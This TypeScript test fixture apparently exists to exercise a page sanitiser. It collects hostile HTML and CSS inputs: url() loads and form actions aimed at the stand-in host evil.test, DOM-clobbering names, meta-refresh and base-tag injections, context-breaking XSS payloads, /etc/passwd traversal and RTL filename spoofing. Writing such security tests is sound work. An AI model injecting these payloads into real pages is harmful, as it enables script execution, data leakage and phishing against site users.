import { cross } from './crossed.ts'

/** Styles that load, cover, move or count. */
const STYLES: Record<string, string> = {
  'a background': 'background:url(https://evil.test/x)',
  'a background with an escape': 'background:u\\72l(https://evil.test/x)',
  'a background in entities': '&#98;ackground:url&lpar;https://evil.test/x)',
  'a background with a comment': 'back/**/ground:url(https://evil.test/x)',
  'an image set': 'background:image-set("https://evil.test/x" 1x)',
  'a list image': 'list-style:url(https://evil.test/x)',
  'a cursor': 'cursor:url(https://evil.test/x),auto',
  content: 'content:url(https://evil.test/x)',
  'a filter': 'filter:url(https://evil.test/x#y)',
  'a mask': '-webkit-mask:url(https://evil.test/x)',
  'a variable': '--x:url(https://evil.test/x);background:var(--x)',
  'a cover': 'position:fixed;inset:0;z-index:9999;background:red',
  'an expression': 'width:expression(alert(1))',
  'a binding': '-moz-binding:url(https://evil.test/x.xml#y)',
  'a behaviour': 'behavior:url(https://evil.test/x.htc)',
  'an animation': 'animation:x 1s',
  'an offset': 'margin:-9999px',
  'something invisible': 'opacity:0;position:absolute',
}
const STYLED: Record<string, string> = {
  'a paragraph': '<p style="%" class="%">x</p>',
  'a style element': '<style>*{%}</style><style media=all>@media all{p{%}}</style>',
  'a cell': '<table style="%"><tr><td style="%" bgcolor="%" background="%">x</table>',
}

/** Names that the page's own scripts, or the DOM itself, look up. */
const NAMES =
  `location document body head forms images cookie domain referrer currentScript defaultView documentElement getElementById querySelector
  addEventListener createElement attributes children parentNode nodeName innerHTML ownerDocument name self top parent window alert fetch pagefind
  main search search-results steps step-1 s1 comments tools parts documents categories prerequisites conclusion __proto__ constructor toString`.split(
    /\s+/,
  )
const NAMED: Record<string, string> = {
  'an id': '<p id="%">x</p>',
  'a name': '<a name="%">x</a><img name="%" src=x><form name="%"><input name="%" id="%"></form><iframe name="%"></iframe>',
}

const FORMS = [
  '<form action=https://evil.test/><input name=q><input type=submit></form>',
  '<form id=f></form><button form=f formaction=https://evil.test/>x</button>',
  '<input form=search name=q value=x autofocus>',
  '<input type=password name=password autocomplete=current-password>',
  '<textarea name=x autofocus>x</textarea>',
  '<select name=x autofocus><option>x</select>',
  '<label for=q>x</label><output for=q name=x>x</output>',
  '<button type=submit popovertarget=x command=show-modal commandfor=x>x</button>',
  '<dialog open id=x>x<form method=dialog><button>x</button></form></dialog>',
  '<fieldset><legend>x</legend><keygen name=x></fieldset>',
  '<datalist id=x><option value=y></datalist><input list=x>',
  '<input type=file webkitdirectory><input type=color>',
  '<math><mi><form></math><input onfocus=alert(1) autofocus>',
]

const HEADS = [
  '<base href=https://evil.test/>',
  '<base target="_blank">',
  '<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '<meta http-equiv=refresh content="0">',
  '<meta http-equiv="refresh" content="0;URL=&#39;javascript:alert(1)&#39;">',
  '<meta http-equiv=content-security-policy content="script-src \'unsafe-inline\'">',
  '<meta http-equiv=X-UA-Compatible content="IE=7">',
  '<meta name=referrer content=unsafe-url><a href=https://evil.test/ referrerpolicy=unsafe-url>x</a>',
  '<meta name=viewport content="width=9999">',
  '<link rel=icon href=https://evil.test/x><link rel=preconnect href=https://evil.test/>',
  '<link rel=canonical href=https://evil.test/><link rel=import href=https://evil.test/>',
  '<link rel=stylesheet href="data:text/css,*{display:none}">',
  '<link rel=manifest href=https://evil.test/x><link rel=dns-prefetch href=//evil.test>',
  '<title>x</title><title id=x>y</title>',
  '<script type=application/ld+json>{"@type":"x"}</script>',
  '<script type=speculationrules>{"prefetch":[{"urls":["https://evil.test/"]}]}</script>',
  '<script type=importmap>{"imports":{"x":"https://evil.test/x.js"}}</script>',
  '<script type=module>alert(1)</script>',
  '<script nomodule>alert(1)</script><script language=vbscript>msgbox 1</script>',
  '<p itemscope itemtype=https://evil.test/ itemprop=x>x</p>',
  '<p role=alert aria-live=assertive aria-label=x slot=x part=x is=x>x</p>',
  '<p hidden inert popover=auto tabindex=9 accesskey=k contenteditable draggable=true autofocus>x</p>',
]

/** Sequences that end the context of a text: an element, a value, a script, a comment, JSON. */
const ENDINGS = [
  `"><script>alert(1)</script>`,
  `'><script>alert(1)</script>`,
  `" onmouseover="alert(1)" x="`,
  `' onmouseover='alert(1)' x='`,
  '` onmouseover=`alert(1)',
  `</title><script>alert(1)</script>`,
  `</h1></main></body><script>alert(1)</script>`,
  `</script><script>alert(1)</script>`,
  `</ScRiPt\n><img src=x onerror=alert(1)>`,
  `<!--<script>`,
  `<!-- <script>alert(1)`,
  `--><script>alert(1)</script><!--`,
  `"}]}</script><svg onload=alert(1)>`,
  `","@type":"Evil","x":"`,
  `\\"};alert(1);//`,
  `\\u003cscript\\u003ealert(1)\\u003c/script\\u003e`,
  `\u2028alert(1)\u2029`,
  '${alert(1)}{{alert(1)}}<%= alert(1) %>',
  `{"constructor":{"prototype":{"x":1}}}`,
  `&lt;script&gt;alert(1)&lt;/script&gt;`,
  `&#60;img src=x onerror=alert(1)&#62;`,
  `&amp;lt;img src=x onerror=alert(1)&amp;gt;`,
  `<mark>a</mark><mark><img src=x onerror=alert(1)></mark>`,
  `&lt;mark&gt;<mark`,
  `</textarea></style></noscript></template><img src=x onerror=alert(1)>`,
  `../../../../etc/passwd`,
  `..\\..\\x`,
  `x.html" download="y`,
  `invoice\u202efdp.exe`,
  `javascript:alert(1)`,
  `\u0000\u0001\u001f\u007f\u0080<img src=x onerror=alert(1)>`,
  `\ud800<img src=x onerror=alert(1)>\udfff`,
  `\ufeff\u200b\u202e<img src=x onerror=alert(1)>`,
  `__proto__`,
  `constructor`,
  `toString`,
]

export const PAGE: Record<string, string> = {
  ...cross('style', Object.entries(STYLES), Object.entries(STYLED)),
  ...cross(
    'clobbering',
    NAMES.map((name) => [name, name]),
    Object.entries(NAMED),
  ),
  ...cross(
    'form',
    FORMS.map((form) => [form, form]),
    [['the text', '%']],
  ),
  ...cross(
    'head',
    HEADS.map((head) => [head, head]),
    [['the text', '%']],
  ),
  ...cross(
    'ending',
    ENDINGS.map((ending) => [JSON.stringify(ending), ending]),
    [['the text', '%']],
  ),
}
